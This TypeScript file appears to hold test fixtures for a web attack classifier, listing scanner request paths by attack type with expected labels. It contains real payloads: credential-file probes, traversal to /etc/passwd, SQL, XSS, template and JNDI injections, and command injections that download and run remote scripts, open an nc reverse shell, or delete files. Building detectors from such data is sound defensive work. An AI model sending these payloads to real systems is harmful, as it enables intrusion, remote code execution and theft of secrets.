/**
 * The plainest requests of scanners, as anybody finds them in a log of the open Internet, by what they are: the reasons
 * that are right for them. Any other class of attack beside these would be wrong.
 */
export interface Probes {
  name: string;
  /** Reasons that say what it is; one of them comes first. */
  right: readonly string[];
  /** Request targets. */
  targets: readonly string[];
}

const words = (text: string): string[] => text.trim().split(/\s+/);

export const PROBES: readonly Probes[] = [
  {
    name: "dot files",
    right: ["probe:dotfile", "probe:known-target", "probe:extension"],
    targets: words(`
      /.env /.env.local /.env.production /.env.bak /.env.example /app/.env /api/.env /backend/.env /laravel/.env /.env~
      /.git/config /.git/HEAD /.git/index /.gitignore /.git/logs/HEAD /.svn/entries /.svn/wc.db /.hg/hgrc /.bzr/README
      /.htaccess /.htpasswd /.DS_Store /.aws/credentials /.aws/config /.ssh/id_rsa /.ssh/authorized_keys /.npmrc
      /.docker/config.json /.dockerenv /.vscode/sftp.json /.idea/workspace.xml /.bash_history /.mysql_history /.profile
      /.travis.yml /.gitlab-ci.yml /.circleci/config.yml /.kube/config /.terraform/terraform.tfstate`),
  },
  {
    name: "backups, dumps, keys and settings",
    right: ["probe:extension", "probe:known-target", "attack:file-access", "probe:dotfile"],
    targets: words(`
      /backup.zip /backup.tar.gz /backup.sql /dump.sql /db.sql /database.sql /site.zip /www.zip /public_html.tar.gz
      /wp-config.php.bak /wp-config.php.old /wp-config.php.save /wp-config.php~ /config.php.bak /index.php.bak
      /config.json /config.yml /database.yml /settings.ini /server.key /private.key /id_rsa /privkey.pem /users.sqlite
      /error.log /debug.log /access.log /app.log /storage/logs/laravel.log /wp-content/debug.log`),
  },
  {
    name: "admin pages and known software",
    right: ["probe:known-target"],
    targets: words(`
      /wp-login.php /wp-admin/ /wp-admin/setup-config.php /wp-admin/install.php /xmlrpc.php /wlwmanifest.xml
      /wp-includes/wlwmanifest.xml /wp-json/wp/v2/users /phpmyadmin/ /phpMyAdmin/index.php /pma/ /adminer.php
      /administrator/ /admin/login /manager/html /host-manager/html /solr/admin/info/system /actuator/env
      /actuator/heapdump /actuator/gateway/routes /jenkins/login /console/ /server-status /server-info /phpinfo.php
      /info.php /test.php /cgi-bin/luci /boaform/admin/formLogin /HNAP1/ /owa/auth/logon.aspx /ecp/Current/exporttool/
      /autodiscover/autodiscover.json /remote/login /dana-na/auth/url_default/welcome.cgi /global-protect/login.esp
      /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /_ignition/execute-solution /telescope/requests /druid/index.html
      /nacos/v1/auth/users /geoserver/web/ /struts2-showcase/index.action /_cat/indices /api/jsonws/invoke /v2/_catalog`),
  },
  {
    name: "shells that others left",
    right: ["attack:webshell", "probe:known-target"],
    targets: words(`
      /shell.php /cmd.php /c99.php /r57.php /wso.php /alfa.php /b374k.php /webshell.jsp /uploads/shell.php /images/c99.php`),
  },
  {
    name: "traversal",
    right: ["attack:traversal", "attack:file-access"],
    targets: words(`
      /../../../../etc/passwd /download?file=../../../../etc/passwd /index.php?page=../../../../etc/shadow
      /static/..%2f..%2f..%2f..%2fetc%2fpasswd /..%252f..%252f..%252fetc/passwd
      /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd /icons/.%%32%65/.%%32%65/etc/passwd
      /view?f=....//....//....//etc/passwd /?template=..\\..\\..\\windows\\win.ini /files?path=/etc/passwd
      /index.php?lang=../../../../proc/self/environ /?page=php://filter/convert.base64-encode/resource=index.php`),
  },
  {
    name: "SQL",
    right: ["attack:sql-injection"],
    targets: words(`
      /item?id=1%27%20OR%20%271%27=%271 /item?id=1+UNION+SELECT+1,2,3-- /item?id=1%20AND%20SLEEP(5)
      /item?id=1;DROP%20TABLE%20users /login?user=admin%27-- /item?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()
      /item?id=1%20AND%201=CONVERT(int,@@version) /item?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--
      /item?id=(SELECT%20table_name%20FROM%20information_schema.tables) /item?id=1%20ORDER%20BY%2010--
      /item?id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20-
      /item?id=benchmark(10000000,md5(1)) /item?id=1%27)%20OR%20pg_sleep(5)--`),
  },
  {
    name: "scripts in pages",
    right: ["attack:xss"],
    targets: words(`
      /search?q=%3Cscript%3Ealert(1)%3C/script%3E /search?q=<script>alert(document.cookie)</script>
      /search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E /search?q=%3Csvg/onload=alert(1)%3E
      /search?q=javascript:alert(1) /?x=%22%20onmouseover=%22alert(1) /?q=%3Ciframe%20src=javascript:alert(1)%3E
      /?name=%3Cbody%20onload=alert(%27xss%27)%3E /?u=%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E
      /?q=%3Cdetails%20open%20ontoggle=alert(1)%3E`),
  },
  {
    name: "templates",
    right: ["attack:template-injection"],
    targets: words(`
      /?name={{7*7}} /?name=%7B%7B7*7%7D%7D /?name=$%7B7*7%7D /?q={{config.items()}} /?q=%3C%25=%207*7%20%25%3E
      /?n={{''.__class__.__mro__[1].__subclasses__()}} /?q={{request.application.__globals__}} /?m=#{7*7}`),
  },
  {
    name: "look-ups",
    right: ["attack:jndi-lookup"],
    targets: words(`
      /?x=$%7Bjndi:ldap://203.0.113.5/a%7D /\${jndi:ldap://203.0.113.5:1389/x} /?a=\${jndi:rmi://203.0.113.5/o}
      /?q=$%7B$%7Blower:j%7Dndi:ldap://203.0.113.5/a%7D /?v=\${jndi:dns://a.oast.example}
      /?q=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://203.0.113.5/z%7D`),
  },
  {
    name: "commands",
    right: ["attack:command-injection"],
    targets: words(`
      /ping?host=127.0.0.1;cat%20/etc/passwd /?cmd=whoami /?exec=id;uname%20-a /cgi-bin/test.cgi?$(id)
      /?ip=127.0.0.1%7Cid /?x=%60whoami%60 /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/jaws;sh+/tmp/jaws
      /?h=;curl%20http://203.0.113.5/x.sh%7Csh /?q=%26%26%20ping%20-c%2010%20203.0.113.5 /?f=x;nc%20-e%20/bin/sh%20203.0.113.5%204444
      /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/Mozi.m+-O+/tmp/netgear;sh+netgear`),
  },
  {
    name: "code",
    right: ["attack:code-injection"],
    targets: words(`
      /index.php?a=%3C?php%20phpinfo();?%3E /?x=phpinfo() /?c=eval(base64_decode($_POST[1])) /?q=system(%27id%27)
      /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=hello
      /?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input /?f=assert($_GET[x])
      /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`),
  },
  {
    name: "requests to inside",
    right: ["attack:ssrf", "attack:file-access"],
    targets: words(`
      /proxy?url=http://169.254.169.254/latest/meta-data/ /fetch?u=http://127.0.0.1:22/ /?url=http://localhost:6379/
      /?u=gopher://127.0.0.1:6379/_INFO /?image=http://metadata.google.internal/computeMetadata/v1/ /?dest=dict://localhost:11211/stat
      /?next=file:///etc/hosts`),
  },
  {
    name: "short commands",
    right: ["attack:command-injection"],
    targets: words(`
      /?host=;id /?host=a|id /?q=%60uname%60 /?q=$(id) /?x=%26%26%20whoami /?f={cat,/etc/passwd} /?f=cat$IFS/etc/passwd
      /?ip=1%7Cnetstat%20-an /?ip=1;nslookup%20oast.example /?f=;/???/c?t%20/???/p?sswd`),
  },
  {
    name: "directories",
    right: ["attack:ldap-injection"],
    targets: words(`
      /login?user=*)(uid=*))(|(uid=* /login?user=admin)(|(password=*)) /?u=*)(%26 /?u=x)(cn=y`),
  },
  {
    name: "XML documents and their paths",
    right: ["attack:xpath-injection", "attack:xml-entity"],
    targets: words(`
      /?u=%27%20or%20count(//*)%3E0%20or%20%27a%27=%27b /?u=%27]%20%7C%20//*%20%7C%20//x[%27
      /?u=x%27%20or%20position()=1%20or%20%27x%27=%27y /?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22http://203.0.113.5/%22%3E]%3E`),
  },
  {
    name: "document stores",
    right: ["attack:nosql-injection"],
    targets: words(`
      /login?user[$ne]=1&pass[$ne]=1 /?q={%22$gt%22:%22%22} /?q={%22password%22:{%22$ne%22:null}} /?u[$regex]=.* /?w[$where]=sleep(5)`),
  },
  {
    name: "headers behind a line break",
    right: ["attack:header-injection"],
    targets: words(`
      /?lang=en%0d%0aSet-Cookie:%20a=b /%0d%0aLocation:%20//evil.example /?to=a%0aBcc:%20x@evil.example
      /?x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK`),
  },
  {
    name: "objects",
    right: ["attack:deserialization"],
    targets: words(`
      /?d=O:8:%22Example%22:1:{s:1:%22a%22;i:1;} /?d=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
      /?d={%22@type%22:%22com.example.A%22} /?d=AAEAAAD/////AQAAAAAAAAAM`),
  },
  {
    name: "format strings",
    right: ["attack:format-string"],
    targets: words("/?q=%25n%25n%25n%25n /?q=%25s%25s%25s%25s /?q=AAAA%25p.%25p.%25p"),
  },
  {
    name: "scripts of another host, and ways to one",
    right: ["attack:file-inclusion", "attack:open-redirect"],
    targets: words(`
      /?page=http://evil.example/x.txt? /?inc=//evil.example/c99.txt /?page=ftp://evil.example/r.inc
      /?next=//evil.example /?next=/\\evil.example /?url=/%09/evil.example`),
  },
  {
    name: "GraphQL's schema",
    right: ["attack:introspection"],
    targets: words("/graphql?query={__schema{types{name}}} /graphql?query={__type(name:%22User%22){name}}"),
  },
];
